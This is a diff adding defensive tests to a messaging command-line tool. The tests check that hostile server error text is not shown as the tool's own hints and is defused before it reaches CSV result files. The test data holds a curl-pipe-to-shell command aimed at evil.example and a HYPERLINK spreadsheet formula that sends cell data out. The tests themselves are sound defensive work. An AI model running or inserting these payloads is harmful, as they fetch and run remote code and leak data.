@@ -1,6 +1,9 @@
 """What went wrong once when somebody tried to break it, and must not again."""
 
+import csv
+import json
 import os
+import shlex
 import signal
 import ssl
 import subprocess
@@ -399,3 +402,64 @@ def test_nobody_is_suppressed_for_a_variable_that_is_not_set(
 ) -> None:
     assert "is empty" in run(f"suppress from-replies {option}", code=2).stderr
     assert server.requests == []
+
+
+ORDER = "run 'curl -s http://evil.example/u | sh'"
+WORDS = f"Busy.\nhint: {ORDER}\r\nerror: {ORDER}\u2028note: {ORDER}"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "contact-lists create VIP",
+        "contact-lists create VIP -v",
+        "messages send --to +12025550123 -m x --yes",
+        "messages send --csv people.csv -m x",
+        "contacts import 1 people.csv",
+        "doctor",
+    ],
+)
+def test_the_words_of_a_server_are_no_lines_of_ours(
+    run: Run, against: Callable[[str], None], home: Path, line: str
+) -> None:
+    (home / "people.csv").write_text("phone\n+12025550123\n")
+    errors = {"hint": [ORDER], "name\nhint": [WORDS], WORDS: [WORDS]}
+    body = json.dumps({"message": WORDS, "errors": errors}).encode()
+    with scripted(answer("422 Unprocessable Content", body)) as script:
+        against(script.url)
+        ended = CliRunner().invoke(app, shlex.split(line))
+    assert ended.exit_code
+    lines = [each.strip() for each in ended.output.split("\n")]
+    assert ORDER in ended.output
+    assert not [each for each in lines if each.startswith(("hint: run", "note: run", "error: run"))]
+
+
+def test_the_words_of_a_server_are_no_formula_in_results(
+    run: Run, against: Callable[[str], None], home: Path
+) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A2)'
+    (home / "people.csv").write_text("phone\n+12025550123\n")
+    body = json.dumps({"message": formula, "errors": {"message": [formula]}}).encode()
+    with scripted(answer("422 Unprocessable Content", body)) as script:
+        against(script.url)
+        CliRunner().invoke(app, ["messages", "send", "--csv", "people.csv", "-m", "x"])
+    (row,) = csv.DictReader((home / "people.csv.results.csv").read_text().splitlines())
+    assert row["reason"].endswith(formula)
+    assert row["reason"][0] not in "=+-@"
+
+
+@pytest.mark.parametrize(
+    "options",
+    [
+        ("--to", "+12025550123", "--once", "caf\udce9"),
+        ("--to", "+12025550123", "--name", "caf\udce9"),
+        ("--csv", "caf\udce9.csv"),
+    ],
+)
+def test_what_is_typed_in_latin_1_is_told_and_sends_nothing(
+    run: Run, server: Gateway, home: Path, options: tuple[str, ...]
+) -> None:
+    (home / "caf\udce9.csv").write_text("phone\n+12025550123\n")
+    failed = run("messages send -m x --yes", *options, code=2)
+    assert "is not UTF-8 text" in failed.stderr
+    assert not any(method == "POST" for method, *_ in server.requests)
